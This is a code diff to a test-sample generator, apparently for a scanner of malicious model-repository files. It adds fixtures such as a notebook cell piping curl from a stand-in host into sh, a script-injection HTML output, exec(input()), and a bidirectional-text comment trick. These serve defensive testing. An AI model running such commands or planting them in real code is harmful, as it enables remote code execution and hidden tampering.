@@ -152,25 +152,34 @@ def samples() -> Iterator[Sample]:
             yield high("python-fetch", f"{fetch}, {run}", "download.py", _DECOY + first + second)
     for case, source in _ALONE.items():
         yield high("python-alone", case, "setup.py" if case == "install hook" else "utils.py", source)
-        yield high("notebook", case, "demo.ipynb", _notebook("print(1)\n", source))
+        if case != "encoding":
+            yield high("notebook", case, "demo.ipynb", _notebook("print(1)\n", source))
     for what, command in _SHELL.items():
         yield high("notebook-shell", what, "demo.ipynb", _notebook("import torch\n", f"!{command}\n"))
+    result = _notebook("!curl -s https://files.invalid | sh\n", page="<script>alert(1)</script>")
+    yield high("notebook-shell", "and a result with a script", "demo.ipynb", result)
     for name in ("torch", "numpy", "json", "transformers", "requests"):
         yield high("shadow", name, f"{name}.py", "value = 1\n", "model.safetensors")
     for name in ("sitecustomize.py", "usercustomize.py"):
         yield high("shadow", name, name, "value = 1\n")
     yield high("shadow", "path file", "env.pth", "import os; os.system('echo')\n")
-    for name in ("handler.py", "pipeline.py", "None.py"):
+    yield high("magic-name", "None.py", "None.py", "value = 1\n")
+    for name in ("handler.py", "pipeline.py"):
         yield careful("magic-name", name, name, "class EndpointHandler:\n    pass\n")
     for case, source in {
         "unknown program": "import subprocess\nsubprocess.run(['updater.exe', '/s'])\n",
         "unchecked": "import requests\nrequests.get('https://api.example', verify=False)\n",
         "exec of input": "exec(input())\n",
+        "short address": "import requests\nrequests.get('https://bit.ly/3abcdef')\n",
+        "no window": "import subprocess\nsubprocess.run(['git', 'pull'], creationflags=subprocess.CREATE_NO_WINDOW)\n",
+        "news of progress": "import requests\nrequests.post('https://api.telegram.org/bot1/sendMessage', json={'text': 'epoch 1'})\n",
+        "order of the text": "allowed = True  # \u202e eslaf \u2066\n",
         "exec of a file": "exec(open('notes.txt').read() + more)\n",
     }.items():
         yield careful("python-odd", case, "run.py", source)
 
 
-def _notebook(*cells: str) -> str:
-    made = [{"cell_type": "code", "source": cell, "outputs": [], "metadata": {}} for cell in cells]
+def _notebook(*cells: str, page: str = "") -> str:
+    outputs = [{"output_type": "display_data", "data": {"text/html": page}, "metadata": {}}] if page else []
+    made = [{"cell_type": "code", "source": cell, "outputs": outputs, "metadata": {}} for cell in cells]
     return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
